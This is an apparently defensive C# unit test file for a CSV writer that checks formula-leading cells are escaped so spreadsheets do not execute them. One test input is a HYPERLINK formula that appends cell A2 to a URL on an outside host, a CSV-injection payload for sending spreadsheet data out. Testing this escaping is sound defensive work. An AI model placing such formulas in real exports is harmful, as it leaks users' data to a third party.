using RightToBid.Web.Shared;

namespace RightToBid.Web.Tests.Shared;

public class writing_a_table
{
    [Theory]
    [InlineData("=HYPERLINK(\"https://example.org/?\"&A2,\"The Fox\")", "\"'=HYPERLINK(\"\"https://example.org/?\"\"&A2,\"\"The Fox\"\")\"")]
    [InlineData("+44 1453 000000", "'+44 1453 000000")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("-12", "-12")]
    [InlineData("The Fox Inn = the pub", "The Fox Inn = the pub")]
    [InlineData("2026-05-12", "2026-05-12")]
    [InlineData(null, "")]
    public void runs_nothing_in_a_spreadsheet_and_leaves_the_rest_as_it_is(string? cell, string written) => Csv.Row([cell, "1"]).ShouldBe($"{written},1\r\n");

    [Fact]
    public void word_for_word_adds_nothing() => Csv.ExactRow(["=1+1", "@", null]).ShouldBe("=1+1,@,\r\n");
}
